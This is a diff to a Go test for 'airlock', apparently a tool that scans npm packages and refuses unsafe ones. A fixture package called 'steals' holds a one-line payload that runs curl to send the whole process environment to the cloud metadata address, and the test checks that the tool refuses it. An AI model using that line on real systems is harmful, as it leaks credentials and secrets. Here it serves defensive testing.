@@ -26,6 +26,9 @@ func TestNpmPackages(t *testing.T) {
 	r.Publish(t, "draws", "1.0.0", "index.js", "exports.n = Math.random()")
 	r.Publish(t, "steals", "1.0.0", "index.js",
 		"require('child_process').execSync('curl http://169.254.169.254/?' + JSON.stringify(process.env))")
+	long := strings.Repeat("x", 2_200_000)
+	r.Publish(t, "long", "1.0.0", "index.js", "exports.a = '"+long+"'.length; exports.b = require('./b')", "b.js",
+		"module.exports = '"+long+"'.length")
 	dir := t.TempDir()
 	folder := filepath.Join(dir, "airlock-packages")
 	environment := []string{"AIRLOCK_TEST_AS_PROGRAM=1", "AIRLOCK_CACHE_DIR=" + filepath.Join(dir, "cache"),
@@ -52,7 +55,15 @@ func TestNpmPackages(t *testing.T) {
 		t.Error("a refused package left a folder")
 	}
 	const listed = "lodash@4.17.21  scan safe  runs start after it\n"
-	want(listed, "packages", "add", "lodash@4", "draws")
+	out, err = airlock("packages", "add", "lodash@4", "steals", "nobody", "draws", "other@npm:lodash@5")
+	if err == nil || !strings.Contains(out, listed) || !strings.Contains(out, "draws@1.0.0") ||
+		!strings.Contains(out, "package steals is refused") || !strings.Contains(out, "nobody") {
+		t.Errorf("others were not added: %v %s", err, out)
+	}
+	want("other@5.0.0", "packages", "list")
+	want("long@1.0.0  scan safe", "packages", "add", "long") // longer than a source of a request may be
+	want("4400000\n", "run", "-e", "import long from 'long'; long.a + long.b")
+	want(listed, "packages", "remove", "other", "long")
 	r.Close()
 	want(listed, "packages", "list")
 	want("draws@1.0.0  scan safe  each run evaluates it: it draws random numbers while it loads", "packages", "list")
